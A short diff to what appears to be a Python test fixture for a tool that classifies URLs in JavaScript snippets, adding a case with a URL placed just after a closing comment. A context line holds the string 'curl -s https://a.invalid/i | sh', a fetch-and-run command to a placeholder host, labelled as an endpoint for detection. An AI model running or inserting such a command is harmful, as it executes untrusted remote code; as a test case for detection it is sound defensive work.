@@ -31,6 +31,10 @@ STANDING = {
     "in a message": ("throw new RangeError('https://a.invalid/why')", PROSE),
     "on the console": ("console.warn('https://a.invalid/why', 1)", PROSE),
     "a command": ("exports.x = 'curl -s https://a.invalid/i | sh'", ENDPOINT),
+    "behind the end of a comment": (
+        "/**\n * a 1.0\n **/x = 'https://a.invalid/x';y = b ? c : {}\n/d/[e]/'f'",
+        "",
+    ),
     "a link of a page": ("a.href = 'https://a.invalid/x'", PROSE),
 }
 
